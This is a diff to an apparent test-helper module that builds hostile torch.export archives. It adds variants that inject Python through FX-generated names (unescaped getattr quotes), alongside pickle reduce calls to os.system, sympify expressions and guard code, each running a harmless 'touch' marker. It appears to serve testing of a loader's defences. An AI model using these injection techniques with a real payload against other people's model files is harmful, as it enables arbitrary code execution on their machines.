@@ -6,10 +6,15 @@ The three ways in through pickle: the legacy ``data/weights/<model>.pt`` and
 ``data/constants/<model>.pt`` entries (preferred over the payload configs when present), and a pre-2.8
 archive's ``serialized_state_dict.pt`` beside a dummy weights config (the old deny-list wanted one).
 A fourth shows the legacy entry to torch's zip reader only (``crafted_archives``: two central
-directories). Three more need no pickle at all: a shape expression in ``models/model.json`` (the loader
+directories). The rest need no pickle at all: a shape expression in ``models/model.json`` (the loader
 evaluates it with ``sympy.sympify``), one that is a plain sympy constructor call whose string argument
-sympy evaluates in turn (``Tuple("__import__('os')...")``), and a guard in its ``guards_code``
-(``module()`` executes those by default).
+sympy evaluates in turn (``Tuple("__import__('os')...")``), a guard in its ``guards_code``
+(``module()`` executes those by default), and two names FX pastes into the Python it compiles for
+``forward`` (``torch.fx.graph._format_target`` writes ``getattr(self, "<name>")`` without escaping
+the quote): a ``torch.cond`` subgraph's and a parameter's. No check of the archive's entries,
+layout or expressions sees those two; the code runs when the program's module is called.
+
+``marker`` may name several files, separated by spaces: the code runs ``touch`` on all of them.
 """
 
 from __future__ import annotations
@@ -26,7 +31,10 @@ import torch
 from torch import nn
 
 VARIANTS = ("legacy_weights", "legacy_constants", "pre_2_8_state_dict", "sympy_expression",
-            "sympy_string_argument", "two_central_directories")  # fmt: skip
+            "sympy_string_argument", "two_central_directories", "cond_subgraph_name",
+            "parameter_name")  # fmt: skip
+# The variants that rewrite a program's names: their own base (``cond_program``), not ``linear_program``.
+NAME_VARIANTS = ("cond_subgraph_name", "parameter_name")
 
 
 class RunsCode:
@@ -39,7 +47,7 @@ class RunsCode:
         return (os.system, (self.command,))
 
 
-def code_pickle(marker: Path) -> bytes:
+def code_pickle(marker: Path | str) -> bytes:
     buffer = io.BytesIO()
     torch.save(RunsCode(f"touch {marker}"), buffer)
     return buffer.getvalue()
@@ -51,6 +59,46 @@ def linear_program(path: Path) -> Path:
     program = torch.export.export(nn.Linear(3, 2).eval(), (torch.randn(2, 3),), dynamic_shapes=({0: batch},))
     torch.export.save(program, str(path))
     return path
+
+
+class Conditional(nn.Module):
+    """``torch.cond`` over a linear layer held as ``lin``: a subgraph (``true_graph_0``) and a dotted
+    parameter name (``lin.weight``) in the program."""
+
+    def __init__(self) -> None:
+        super().__init__()
+        self.lin = nn.Linear(3, 2)
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return torch.cond(x.sum() > -1e9, lambda x: self.lin(x), lambda x: self.lin(x) * 2, (x,))
+
+
+def cond_program(path: Path) -> Path:
+    """A valid program with a ``torch.cond`` subgraph: input ``x`` [batch, 3], output [batch, 2]."""
+    batch = torch.export.Dim("batch", min=1, max=16)
+    program = torch.export.export(Conditional().eval(), (torch.randn(2, 3),), dynamic_shapes=({0: batch},))
+    torch.export.save(program, str(path))
+    return path
+
+
+def _dotless_code(marker: Path | str) -> str:
+    """``touch marker`` as a Python expression without a dot (FX splits a name at its dots)."""
+    command = list(f"touch {marker}".encode())
+    return f'getattr(__import__("os"), "system")(str(bytes({command}), "ascii"))'
+
+
+def with_code_in_a_name(base: Path, target: Path, name: str, marker: Path | str) -> Path:
+    """``base`` with every occurrence of the name ``name`` (a JSON string in its configs and program)
+    replaced by one that closes FX's ``getattr(self, "…")``, runs the code and reopens it."""
+    head, _, last = name.rpartition(".")
+    crafted = f'{head}{"." if head else ""}{last}") if {_dotless_code(marker)} else getattr(self, "{last}'
+    with zipfile.ZipFile(base) as old, zipfile.ZipFile(target, "w") as new:
+        for item in old.infolist():
+            data = old.read(item.filename)
+            if item.filename.endswith(".json"):
+                data = data.decode().replace(json.dumps(name), json.dumps(crafted)).encode()
+            new.writestr(item, data)
+    return target
 
 
 def _with_entry(base: Path, target: Path, relative: str, data: bytes) -> None:
@@ -72,7 +120,7 @@ def with_program_text(base: Path, target: Path, change: Callable[[str], str]) ->
     return target
 
 
-def _code(marker: Path) -> str:
+def _code(marker: Path | str) -> str:
     return f"__import__('os').system('touch {marker}')"
 
 
@@ -84,7 +132,7 @@ def with_expression(base: Path, target: Path, expression: str) -> Path:
     return target
 
 
-def with_guard_code(base: Path, target: Path, marker: Path) -> Path:
+def with_guard_code(base: Path, target: Path, marker: Path | str) -> Path:
     """``base`` with a guard that runs code: executed by ``ExportedProgram.module()`` (check_guards)."""
 
     def change(text: str) -> str:
@@ -96,7 +144,7 @@ def with_guard_code(base: Path, target: Path, marker: Path) -> Path:
     return target
 
 
-def _pre_2_8(target: Path, marker: Path) -> None:
+def _pre_2_8(target: Path, marker: Path | str) -> None:
     from torch._export.serde.serialize import SCHEMA_VERSION, serialize
 
     artifact = serialize(torch.export.export(nn.Linear(3, 2).eval(), (torch.randn(2, 3),)))
@@ -109,8 +157,9 @@ def _pre_2_8(target: Path, marker: Path) -> None:
         archive.writestr("program/data/weights/model_weights_config.json", '{"config": {}}')
 
 
-def craft(variant: str, base: Path, target: Path, marker: Path) -> Path:
-    """``target``: ``base`` (a valid program) made hostile the ``variant`` way."""
+def craft(variant: str, base: Path, target: Path, marker: Path | str) -> Path:
+    """``target``: ``base`` (a valid program) made hostile the ``variant`` way (``NAME_VARIANTS``
+    start from ``cond_program`` instead, written beside ``target``)."""
     if variant == "legacy_weights":
         _with_entry(base, target, "data/weights/model.pt", code_pickle(marker))
     elif variant == "legacy_constants":
@@ -121,6 +170,9 @@ def craft(variant: str, base: Path, target: Path, marker: Path) -> Path:
         with_expression(base, target, f"Tuple({_code(marker)!r})")
     elif variant == "pre_2_8_state_dict":
         _pre_2_8(target, marker)
+    elif variant in NAME_VARIANTS:
+        name = "true_graph_0" if variant == "cond_subgraph_name" else "lin.weight"
+        with_code_in_a_name(cond_program(target.with_name("cond.pt2")), target, name, marker)
     else:  # an archive two zip readers read differently (``crafted_archives.CONSTRUCTIONS``)
         from crafted_archives import hostile_archive  # it builds on this module's pickle
 
